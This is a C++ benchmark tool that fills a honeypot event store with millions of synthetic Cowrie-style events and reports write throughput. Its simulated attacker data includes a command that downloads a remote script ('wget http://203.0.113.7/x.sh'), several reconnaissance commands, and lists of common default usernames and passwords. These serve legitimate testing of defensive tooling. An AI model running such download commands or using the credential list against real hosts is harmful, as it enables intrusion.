// store_fill: writes N synthetic honeypot events into a honeycomb store
// through the project's storage API (store::open_storage, append + flush),
// the same writer the core uses, for bench/core_api/run.sh (SQLite) and
// bench/core_postgres/run.sh (--db postgresql://...: the database must exist).
//
// Distributions: 10 nodes; 50 pots over 5 pot types (cowrie 20, dionaea 10,
// honnypotter 8, simple_http 7, heralding 5); 20 event types (per pot type);
// src_ip Zipf-like (s = 1) over 100,000 addresses, so a few scanners are
// everywhere and most addresses appear a handful of times; 1 % of the
// addresses are in 10.0.0.0/8; event times spread evenly over 30 days ending
// at --end (unix seconds), written oldest first. Each event carries a
// Cowrie-like original record (~450-600 bytes of JSON).
//
//   honeycomb_store_fill --db /var/tmp/honeycomb-bench-10m.db --events 10000000
//   honeycomb_store_fill --db postgresql://honeycomb@127.0.0.1:5432/bench --events 10000000
//
// Prints progress every million events and a summary line
// (events, seconds, events/s). Rare addresses for the benchmark's queries:
// --print-rare K prints K addresses of rank >= 90,000 after the fill.
#include "store/storage.hpp"

#include <algorithm>
#include <chrono>
#include <cmath>
#include <cstdint>
#include <cstdio>
#include <iostream>
#include <random>
#include <string>
#include <thread>
#include <vector>

using namespace honeycomb;

namespace {

struct PotType {
  const char* type;
  int pots;
  std::vector<const char*> events;
  std::uint16_t port;
};

const std::vector<PotType>& pot_types() {
  static const std::vector<PotType> t = {
      {"cowrie",
       20,
       {"cowrie.session.connect", "cowrie.login.failed", "cowrie.login.success", "cowrie.command.input",
        "cowrie.session.closed", "cowrie.client.version", "cowrie.client.kex", "cowrie.session.file_download"},
       22},
      {"dionaea", 10, {"dionaea.connection.tcp.accept", "dionaea.download.complete", "dionaea.modules.smb"}, 445},
      {"honnypotter", 8, {"honnypotter.login.failed", "honnypotter.login.success", "honnypotter.xmlrpc"}, 80},
      {"simple_http", 7, {"simple_http.request", "simple_http.login"}, 80},
      {"heralding", 5, {"heralding.auth", "heralding.session.ended", "heralding.session.started", "heralding.ftp"}, 21},
  };
  return t;
}

// Address of rank i (0-based) among the 100,000: spread over the IPv4 space;
// every 100th rank is in 10.0.0.0/8.
std::string ip_of_rank(std::uint32_t i) {
  const std::uint32_t h = (i * 2654435761u) ^ 0x9e3779b9u;
  std::uint32_t a = 1 + (h >> 24) % 223;
  if (a == 10 || a == 127)
    a += 1;
  if (i % 100 == 7)
    a = 10;
  char buf[32];
  std::snprintf(buf, sizeof buf, "%u.%u.%u.%u", a, (h >> 16) & 255, (h >> 8) & 255, 1 + (h & 255) % 254);
  return buf;
}

}  // namespace

int main(int argc, char** argv) {
  std::string db;
  std::uint64_t n = 10'000'000;
  std::uint64_t seed = 1;
  std::int64_t end_s = 1'796'040'000;  // 2026-11-30T12:00:00Z
  int print_rare = 0;
  for (int i = 1; i < argc; ++i) {
    const std::string a = argv[i];
    auto val = [&]() -> std::string {
      if (i + 1 >= argc) {
        std::cerr << "store_fill: missing value for " << a << "\n";
        std::exit(2);
      }
      return argv[++i];
    };
    if (a == "--db")
      db = val();
    else if (a == "--events")
      n = std::stoull(val());
    else if (a == "--seed")
      seed = std::stoull(val());
    else if (a == "--end")
      end_s = std::stoll(val());
    else if (a == "--print-rare")
      print_rare = std::stoi(val());
    else {
      std::cerr << "usage: honeycomb_store_fill --db FILE|postgresql://URI [--events 10000000] [--seed 1] "
                   "[--end UNIX_S] [--print-rare K]\n";
      return 2;
    }
  }
  if (db.empty()) {
    std::cerr << "store_fill: --db is required\n";
    return 2;
  }

  store::StorageOptions so;
  if (store::is_postgres_uri(db)) {
    so.postgres_uri = db;
  } else {
    so.path = db;
  }
  so.cache_mb = 256;
  std::string err;
  auto st = store::open_storage(so, err);
  if (!st) {
    std::cerr << "store_fill: " << err << "\n";
    return 1;
  }

  std::mt19937_64 rng(seed);
  constexpr std::uint32_t kAddrs = 100'000;
  std::vector<double> cdf(kAddrs);
  double acc = 0;
  for (std::uint32_t i = 0; i < kAddrs; ++i)
    cdf[i] = acc += 1.0 / (i + 1.0);
  std::vector<std::string> ips(kAddrs);
  for (std::uint32_t i = 0; i < kAddrs; ++i)
    ips[i] = ip_of_rank(i);
  std::uniform_real_distribution<double> u01(0.0, 1.0);

  struct Pot {
    std::string id;
    const PotType* type;
    std::uint64_t node;
  };
  std::vector<Pot> pots;
  for (const auto& t : pot_types()) {
    for (int k = 1; k <= t.pots; ++k) {
      char id[64];
      std::snprintf(id, sizeof id, "%s-%02d", t.type, k);
      pots.push_back({id, &t, 1'000'000'000ULL + pots.size() % 10});
    }
  }
  static const char* users[] = {"root",     "admin", "user",    "test", "ubuntu", "oracle", "pi",     "git",
                                "postgres", "guest", "support", "ftp",  "deploy", "centos", "hadoop", "nagios"};
  static const char* passwords[] = {"123456", "password", "admin",    "root",      "12345678", "qwerty",
                                    "1234",   "letmein",  "P@ssw0rd", "raspberry", "toor",     "changeme",
                                    "111111", "abc123",   "welcome1", "dragon"};
  static const char* commands[] = {"uname -a",
                                   "cat /proc/cpuinfo",
                                   "wget http://203.0.113.7/x.sh",
                                   "cd /tmp",
                                   "echo ok",
                                   "busybox",
                                   "free -m",
                                   "ls -la",
                                   "nproc",
                                   "crontab -l"};

  const std::int64_t span_us = 30LL * 86400 * 1'000'000;
  const std::int64_t start_us = end_s * 1'000'000 - span_us;
  const auto t0 = std::chrono::steady_clock::now();
  std::vector<events::Event> batch;
  constexpr std::size_t kBatch = 8192;
  batch.reserve(kBatch);
  char raw[2048];
  for (std::uint64_t i = 0; i < n; ++i) {
    events::Event e;
    const Pot& p = pots[rng() % pots.size()];
    const auto rank =
        static_cast<std::uint32_t>(std::lower_bound(cdf.begin(), cdf.end(), u01(rng) * acc) - cdf.begin());
    e.event_us = start_us +
                 static_cast<std::int64_t>((static_cast<__int128>(span_us) * i) / std::max<std::uint64_t>(n, 1)) +
                 static_cast<std::int64_t>(rng() % 1000);
    e.received_us = e.event_us + 1000 + static_cast<std::int64_t>(rng() % 50'000);
    e.node_id = p.node;
    e.pot_id = p.id;
    e.pot_type = p.type->type;
    e.event_type = p.type->events[rng() % p.type->events.size()];
    e.src_ip = ips[rank];
    e.src_port = static_cast<std::int32_t>(1024 + rng() % 64000);
    e.dst_ip = "10.0.0.5";
    e.dst_port = p.type->port;
    char session[13];
    std::snprintf(session, sizeof session, "%012llx", static_cast<unsigned long long>(rng() & 0xffffffffffffULL));
    e.session = session;
    char eid[48];
    std::snprintf(eid, sizeof eid, "fill-%llu-%010llu", static_cast<unsigned long long>(seed),
                  static_cast<unsigned long long>(i));
    e.event_id = eid;
    const bool login = e.event_type.find("login") != std::string::npos || e.event_type == "heralding.auth";
    const bool cmd = e.event_type == "cowrie.command.input";
    if (login) {
      e.username = users[rng() % std::size(users)];
      e.password = passwords[rng() % std::size(passwords)];
      e.message = "login attempt [" + e.username + "/" + e.password + "] failed";
    } else if (cmd) {
      e.command = commands[rng() % std::size(commands)];
      e.message = "CMD: " + e.command;
    } else {
      e.message = "New connection: " + e.src_ip + ":" + std::to_string(e.src_port) +
                  " (10.0.0.5:" + std::to_string(e.dst_port) + ") [session: " + e.session + "]";
    }
    const std::string ts = [&] {
      const std::time_t s = e.event_us / 1'000'000;
      std::tm tm{};
      gmtime_r(&s, &tm);
      char b[40];
      std::snprintf(b, sizeof b, "%04d-%02d-%02dT%02d:%02d:%02d.%06dZ", tm.tm_year + 1900, tm.tm_mon + 1, tm.tm_mday,
                    tm.tm_hour, tm.tm_min, tm.tm_sec, static_cast<int>(e.event_us % 1'000'000));
      return std::string(b);
    }();
    std::snprintf(raw, sizeof raw,
                  R"({"eventid":"%s","src_ip":"%s","src_port":%d,"dst_ip":"10.0.0.5","dst_port":%d,"session":"%s",)"
                  R"("protocol":"%s","sensor":"%s","username":"%s","password":"%s","input":"%s","message":"%s",)"
                  R"("system":"HoneyPotSSHTransport,%llu,%s","time":%.6f,"timestamp":"%s",)"
                  R"("uuid":"a114062c-e675-11f1-ab8d-02fc%08llx","honeybee_honeypot_id":"%s",)"
                  R"("honeybee_honeypot_type":"%s","honeybee_category":"%s","honeybee_severity":"%s"})",
                  e.event_type.c_str(), e.src_ip.c_str(), e.src_port, e.dst_port, e.session.c_str(),
                  e.dst_port == 22 ? "ssh" : (e.dst_port == 21 ? "ftp" : "tcp"), p.id.c_str(), e.username.c_str(),
                  e.password.c_str(), e.command.c_str(), e.message.c_str(), static_cast<unsigned long long>(i % 1000),
                  e.src_ip.c_str(), static_cast<double>(e.event_us) / 1e6, ts.c_str(),
                  static_cast<unsigned long long>(p.node % 100000000), p.id.c_str(), e.pot_type.c_str(),
                  login ? "authentication" : (cmd ? "command" : "connection"), login || cmd ? "medium" : "low");
    e.raw_json = raw;
    batch.push_back(std::move(e));
    if (batch.size() == kBatch || i + 1 == n) {
      while (!st->append(batch))
        std::this_thread::sleep_for(std::chrono::milliseconds(2));
      batch.clear();
    }
    if ((i + 1) % 1'000'000 == 0) {
      const double s = std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
      std::cerr << "store_fill: " << (i + 1) << " events appended, " << s << " s\n";
    }
  }
  st->flush();
  const auto c = st->counters();
  const double s = std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
  std::cout << "events=" << c.stored << " failed=" << c.failed << " duplicates=" << c.duplicates << " seconds=" << s
            << " events_per_s=" << static_cast<std::uint64_t>(static_cast<double>(c.stored) / std::max(s, 1e-9))
            << std::endl;
  for (int k = 0; k < print_rare; ++k)
    std::cout << "rare_ip=" << ips[90'000 + static_cast<std::uint32_t>(k) * 37] << "\n";
  st.reset();
  return c.failed == 0 ? 0 : 1;
}
